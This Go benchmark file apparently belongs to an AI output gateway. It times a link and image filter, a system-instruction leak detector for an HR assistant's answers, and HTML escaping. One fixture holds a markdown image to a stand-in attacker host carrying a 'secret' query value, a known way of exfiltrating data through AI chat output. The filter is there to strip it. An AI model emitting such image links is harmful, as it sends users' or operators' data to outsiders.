package output

import (
	"github.com/palisade-gw/palisade/internal/guard/detect"
	"os"
	"strings"
	"testing"
)

func loadProse(b *testing.B) string {
	b.Helper()
	data, err := os.ReadFile("../detect/testdata/prose.txt")
	if err != nil {
		b.Fatalf("read prose: %v", err)
	}
	return string(data)
}

// prompt1K is about 1 KB of an ordinary HR answer.
var prompt1K = func() string {
	s := "Hi Sam, thanks for your question about carrying over annual leave. Under the leave policy you can carry over up to five days " +
		"into the next leave year, as long as your manager approves it before 31 March. Days above that are lost unless you were on " +
		"parental or sick leave for a long part of the year, in which case the limit does not apply. To request it, open the HR portal, " +
		"choose Time off, then Carry over, enter the number of days and add a short note. Your manager gets a notification and usually " +
		"replies within two working days. If you have questions about how this affects your pay or pension, the payroll team can help, " +
		"and your HR business partner can explain how the policy applies to part-time contracts. Have a good week! "
	for len(s) < 1024 {
		s += s
	}
	return s[:1024]
}()

func BenchmarkFilterProse(b *testing.B) {
	text := loadProse(b)
	f := newTestFilter()
	b.SetBytes(int64(len(text)))
	b.ReportAllocs()
	for b.Loop() {
		f.Filter(text)
	}
}

func BenchmarkFilterPrompt1K(b *testing.B) {
	f := newTestFilter()
	b.SetBytes(int64(len(prompt1K)))
	b.ReportAllocs()
	for b.Loop() {
		f.Filter(prompt1K)
	}
}

// BenchmarkFilterLinks1K is a 1 KB answer with allowed links and one
// image to remove.
func BenchmarkFilterLinks1K(b *testing.B) {
	text := prompt1K[:700] + " See [the policy](https://hr.example.com/leave) and https://wiki.intranet.example/HR/Leave " +
		"or <https://hr.example.com/portal>. ![x](https://evil.example/p.png?q=secret) [Ask HR](mailto:help@hr.example.com)."
	f := newTestFilter()
	b.SetBytes(int64(len(text)))
	b.ReportAllocs()
	for b.Loop() {
		f.Filter(text)
	}
}

func BenchmarkLeakGuardPrompt1K(b *testing.B) {
	g := newHRGuard()
	b.SetBytes(int64(len(prompt1K)))
	b.ReportAllocs()
	for b.Loop() {
		g.Detect(nil, prompt1K)
	}
}

func BenchmarkLeakGuardProse(b *testing.B) {
	text := loadProse(b)
	g := newHRGuard()
	b.SetBytes(int64(len(text)))
	b.ReportAllocs()
	for b.Loop() {
		g.Detect(nil, text)
	}
}

// BenchmarkLeakStream feeds a 1 KB answer in 16-byte pieces, calling
// Detect on the accumulated text after each, as the stream guard does.
func BenchmarkLeakStream(b *testing.B) {
	g := newHRGuard()
	text := prompt1K[:600] + strings.ReplaceAll(hrInstructions[:424], "\n", " ")
	b.SetBytes(int64(len(text)))
	b.ReportAllocs()
	var dst = make([]detect.Finding, 0, 4)
	for b.Loop() {
		s := g.NewStream()
		for n := 16; n < len(text)+16; n += 16 {
			dst = s.Detect(dst[:0], text[:min(n, len(text))])
		}
	}
}

func BenchmarkEscapeHTMLProse(b *testing.B) {
	text := loadProse(b)
	b.SetBytes(int64(len(text)))
	b.ReportAllocs()
	for b.Loop() {
		EscapeHTML(text)
	}
}
